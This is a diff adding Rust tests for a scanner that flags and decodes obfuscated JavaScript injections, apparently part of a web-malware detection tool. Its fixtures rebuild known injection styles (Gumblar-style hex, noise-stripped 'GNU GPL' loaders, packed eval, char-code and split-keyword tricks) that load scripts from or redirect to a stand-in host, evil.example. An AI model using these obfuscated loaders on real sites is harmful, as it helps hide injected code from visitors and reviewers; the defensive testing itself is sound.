@@ -1,0 +1,252 @@
+//! Tests of the script reader: what each sign fires on, what stays quiet, what comes out decoded.
+
+use super::report;
+use crate::model::ScriptSign::{self, *};
+use crate::model::Sink;
+use proptest::prelude::*;
+
+fn signs(script: &str) -> Vec<ScriptSign> {
+    report(script).signs.into_iter().map(|(sign, _)| sign).collect()
+}
+
+fn layers(script: &str) -> Vec<String> {
+    report(script).layers.into_iter().map(|layer| layer.text).collect()
+}
+
+/// Every byte of a text behind `mark`.
+fn hex(text: &str, mark: &str) -> String {
+    text.bytes().map(|byte| format!("{mark}{byte:02x}")).collect()
+}
+
+const MARKUP: &str = "<script src=\"//evil.example/a.js\"></script>";
+
+#[test]
+fn gumblar_delimiter_hex() {
+    let padded = format!("var zz=1;/* {} */document.write('{MARKUP}');", "x".repeat(120));
+    let script = format!("(function(){{var t=\"{}\";eval(unescape(t.replace(/:/g,'%')));}})();", hex(&padded, ":"));
+    assert!(signs(&script).contains(&DelimiterHex), "{:?}", signs(&script));
+    assert!(layers(&script).iter().any(|text| text.contains(MARKUP)));
+    assert!(report(&script).urls.contains(&"//evil.example/a.js".to_owned()));
+}
+
+#[test]
+fn gnu_gpl_noise() {
+    let noisy = |text: &str| text.chars().map(|c| format!("{c}!(#")).collect::<String>();
+    let script = format!(
+        "/*GNU GPL*/ try{{window.onload=function(){{var a=document.createElement('{}'.replace(/\\!|\\(|\\$|#|@/ig,''));\
+         a.setAttribute('src','{}'.replace(/\\!|\\(|\\$|#|@/ig,''));document.body.appendChild(a);}}}}catch(e){{}}",
+        noisy("script"),
+        noisy("http://brand-com.brand.example.rogue.invalid:8080/brand.example/"),
+    );
+    assert!(signs(&script).contains(&NoiseReplace));
+    let urls = report(&script).urls;
+    assert!(urls.contains(&"http://brand-com.brand.example.rogue.invalid:8080/brand.example/".to_owned()), "{urls:?}");
+}
+
+#[test]
+fn needless_percent() {
+    let script = format!("document.write(unescape('{}'))", hex(MARKUP, "%"));
+    assert_eq!(signs(&script), [PercentLetters]);
+    assert_eq!(layers(&script)[0], MARKUP);
+    let split = hex(MARKUP, "%").replace("%73", "'+'%73");
+    assert!(signs(&format!("document.write(unescape('{split}'))")).contains(&PercentLetters));
+    assert_eq!(signs(&format!("var next = '/go?to={}';", hex("/somewhere/else/altogether/now/please", "%"))), []);
+}
+
+#[test]
+fn classic_analytics_is_quiet_and_read() {
+    let script = "var gaJsHost = ((\"https:\" == document.location.protocol) ? \"https://ssl.\" : \"http://www.\");\n\
+        document.write(unescape(\"%3Cscript src='\" + gaJsHost + \"google-analytics.com/ga.js' \
+        type='text/javascript'%3E%3C/script%3E\"));";
+    assert_eq!(signs(script), []);
+    assert_eq!(
+        layers(script),
+        ["<script src='https://ssl.google-analytics.com/ga.js' type='text/javascript'></script>"]
+    );
+}
+
+#[test]
+fn escapes_and_codes() {
+    let escaped = format!("var a=[\"{}\"];document[a[0]](1)", hex("document.createElement('script');go.on()", "\\x"));
+    assert!(signs(&escaped).contains(&EscapedLetters));
+    let codes: Vec<String> = MARKUP.bytes().map(|b| b.to_string()).collect();
+    let script = format!("eval(String.fromCharCode({}))", codes.join(","));
+    assert_eq!(signs(&script), [CharCodes]);
+    assert_eq!(layers(&script)[0], MARKUP);
+    let array = format!("var c=[{}];", codes.join(","));
+    assert!(signs(&array).is_empty() || signs(&array) == [CharCodes]);
+    let table: Vec<String> = (32..127).map(|n| n.to_string()).collect();
+    assert_eq!(signs(&format!("var widths=[{}];x(String.fromCharCode(1))", table.join(","))), []);
+}
+
+#[test]
+fn code_as_data() {
+    let code = "window.location='//evil.example/';document.cookie='a';";
+    let script = format!("var k='{}';(function(){{eval(k)}})()", hex(code, ""));
+    assert!(signs(&script).contains(&CodeAsData));
+    assert_eq!(layers(&script)[0], code);
+    assert!(!signs("var id='3f2a77696e646f772e6c6f636174696f6e00ffee';eval(x)").contains(&CodeAsData));
+}
+
+#[test]
+fn split_keywords() {
+    assert_eq!(signs("document['wri'+'te'](x);document['createEl'+'ement']('i'+'frame')"), [SplitKeywords]);
+    assert_eq!(signs("document.write('<scr'+'ipt src=\"/a.js\"></scr'+'ipt>')"), []);
+    assert_eq!(signs("var a='http:'+'//www.example/'"), []);
+}
+
+#[test]
+fn computed_calls_symbols_and_mappers() {
+    assert_eq!(signs("var q='';[][q][q](a+b)();var s='sp'+'lit'"), [ComputedCall]);
+    assert_eq!(signs(&format!("x={}", "[]+(![])+!+[]".repeat(14))), [SymbolRun]);
+    let mapper = "for(i=0;i<s.length;i++){m+=String.fromCharCode(s.charCodeAt(i)-1)}document.write(m)";
+    assert_eq!(signs(mapper), [CharMapper]);
+    assert_eq!(signs("eval(a);String.fromCharCode(this.charCodeAt(this.length - 1) + 1)"), []);
+}
+
+#[test]
+fn packer_is_undone() {
+    let script = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0.1(\"<2 3=\\'//4.5/6\\'></2>\")',62,7,\
+        'document|write|script|src|evil|example|x'.split('|'),0,{}))";
+    assert_eq!(signs(script), [Packed]);
+    assert_eq!(layers(script)[0], "document.write(\"<script src='//evil.example/x'></script>\")");
+    assert!(report(script).sinks.contains(&Sink::Write));
+}
+
+#[test]
+fn layers_of_layers() {
+    let inner = format!("document.write(unescape('{}'))", hex(MARKUP, "%"));
+    let outer = format!("eval(unescape('{}'))", hex(&inner, "%"));
+    assert!(layers(&outer).iter().any(|text| text == MARKUP), "{:?}", layers(&outer));
+    let mut deep = "1".to_owned();
+    for _ in 0..12 {
+        deep = format!("eval(unescape('{}'))", deep.replace('%', "%25").replace('\'', "%27"));
+    }
+    assert!(layers(&deep).len() <= 6);
+}
+
+#[test]
+fn redirects_that_happen_by_themselves() {
+    let of = |script: &str| report(script).redirects;
+    assert_eq!(of("location='https://a.example/'"), ["https://a.example/"]);
+    assert_eq!(of("(function(){top.location.href='//b.example/x'})()"), ["//b.example/x"]);
+    assert_eq!(of("window.onload=function(){location.replace('/c')}"), ["/c"]);
+    assert_eq!(of("function go(){location='/d'} setTimeout(go, 10)"), ["/d"]);
+    assert_eq!(of("var u='https://e.'+'example/';window['location']['href']=u;"), ["https://e.example/"]);
+    assert_eq!(of("location='https://f.example/?r='+document.referrer"), ["https://f.example/?r="]);
+    assert_eq!(of("function go(){location='/never'}"), [""; 0]);
+    assert_eq!(of("b.onclick=function(){location='/never'}"), [""; 0]);
+    assert_eq!(of("if(location.href=='/x'){y()}"), [""; 0]);
+}
+
+#[test]
+fn addresses() {
+    let urls =
+        report("a='//cdn.example/x.js';// https://comment.example/\nb=\"<img src='https://img.example/'>\";c='a//b'");
+    assert_eq!(urls.urls, ["//cdn.example/x.js", "https://img.example/"]);
+}
+
+#[test]
+fn looks_then_acts() {
+    let script = "if(document.referrer.indexOf('search')>0){var s=document.createElement('script');\
+        s.src='//evil.example/a.js';document.head.appendChild(s)}";
+    assert_eq!(signs(script), [LooksThenActs]);
+}
+
+/// The shape of Cloudflare's inline loader, with what it loads.
+fn challenge(ray: &str, time: &str, loads: &str) -> String {
+    format!(
+        "(function(){{var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={{r:'{ray}',t:'{time}'}};\
+        var a=document.createElement('script');a.src='{loads}';\";b.appendChild(d)}})();"
+    )
+}
+
+#[test]
+fn challenge_parameters_are_left_out_and_nothing_else() {
+    let of = |ray, time, loads| report(&challenge(ray, time, loads)).shape;
+    let loads = "/cdn-cgi/challenge-platform/scripts/jsd/main.js";
+    let known = of("8c1f2a3b4c5d6e7f", "MTcxNDUyMTYwMA==", loads);
+    assert!(known.is_some());
+    assert_eq!(known, of("0000000000000001", "MTcxNDUyMTYzMS4wMDAwMDA=", loads));
+    assert_ne!(known, of("8c1f2a3b4c5d6e7f", "MTcxNDUyMTYwMA==", "//evil.example/main.js"));
+    assert_eq!(of("8c1f2a3b4c5d6e7f", "x;location=1", loads), None);
+    assert_eq!(of("8c1f2a3b4c5d6e7g", "MTcxNDUyMTYwMA==", loads), None);
+}
+
+fn same_shape(a: &str, b: &str) -> bool {
+    let shape = report(a).shape;
+    shape.is_some() && shape == report(b).shape
+}
+
+#[test]
+fn shape_leaves_plain_data_out() {
+    for (a, b) in [
+        ("var csrf='9f86d081884c7d65';", "var csrf='60303ae22b998861';"),
+        (
+            "window.state={\"views\":1204,\"at\":\"2024-05-01T00:00:00Z\"}",
+            "window.state={\"views\":9,\"at\":\"2025-01-11T10:00:00Z\"}",
+        ),
+        (
+            "window.__CF$cv$params={r:'8c1f2a3b4c5d6e7f',t:'MTcxNDUyMTYwMA=='};",
+            "window.__CF$cv$params={r:'8c1f2a3b4c5d0000',t:'MTcxNDUyMTYzMQ=='};",
+        ),
+        ("NREUM.info={\"queueTime\":0,\"applicationTime\":184}", "NREUM.info={\"queueTime\":12,\"applicationTime\":7}"),
+    ] {
+        assert!(same_shape(a, b), "{a}");
+    }
+}
+
+#[test]
+fn no_attack_fits_through_a_shape() {
+    for (a, b) in [
+        ("var host='cdn.example';", "var host='evil.example';"),
+        ("var path='a1';", "var path='//evil.example/1';"),
+        ("var mode='checkout';", "var mode='eval';"),
+        ("var a=1;", "var a=1;alert(2);"),
+        ("var t='<b>1</b>';", "var t='<i>1</i>';"),
+        ("var ip='192.0.2.1';", "var ip='198.51.100.7';"),
+        ("x[k]=1;", "x[k]=2;"),
+        ("x['a1']();", "x['b2']();"),
+        ("eval(String.fromCharCode(97,98));", "eval(String.fromCharCode(98,99));"),
+        ("setTimeout('9f86d081884c7d65',1);", "setTimeout('60303ae22b998861',1);"),
+        ("s.src='a1b2c3d4e5f6a7b8';", "s.src='b1b2c3d4e5f6a7b8';"),
+        ("var a='11'+b;", "var a='22'+b;"),
+        ("return\n1", "return 1"),
+        ("/*@cc_on var a=1;@*/", "/*@cc_on var a=2;@*/"),
+        ("atob('YWJjZDEy')", "atob('YWJjZDEz')"),
+        ("\\u0065val('a1')", "\\u0065val('b2')"),
+    ] {
+        assert!(!same_shape(a, b), "{a}  {b}");
+    }
+}
+
+#[test]
+fn both_ends_of_a_long_script_are_read() {
+    let long = format!("{}\n;location='https://evil.example/';", "var a=1;\n".repeat(400_000));
+    let found = report(&long);
+    assert_eq!(found.redirects, ["https://evil.example/"]);
+    assert_eq!(found.cut.as_deref(), Some("bytes"));
+    assert_eq!(found.shape, None);
+}
+
+#[test]
+fn hostile_scripts_end() {
+    for piece in
+        ["[", "(", "{", "unescape(", "a+", "'a'+", "`${", "/[", "=/[", "x=x+", "\\", "'\\x6", "/*", "%3C", "eval("]
+    {
+        let _ = report(&piece.repeat(40_000));
+    }
+    let nested = format!("{}'x'{}", "unescape(".repeat(5000), ")".repeat(5000));
+    let _ = report(&nested);
+    let chain: String = (0..3000).map(|n| format!("var a{}=a{n}+a{n};", n + 1)).collect();
+    let _ = report(&format!("var a0='xxxxxxxx';{chain}eval(a3000)"));
+}
+
+proptest! {
+    #[test]
+    fn any_text_gives_a_report(text in "\\PC{0,200}|[\\[\\](){}'\"`$/\\\\+x0-9a-f%:;.,=!]{0,200}") {
+        let found = report(&text);
+        prop_assert!(found.layers.len() <= 6);
+        prop_assert_eq!(report(&text), found);
+    }
+}
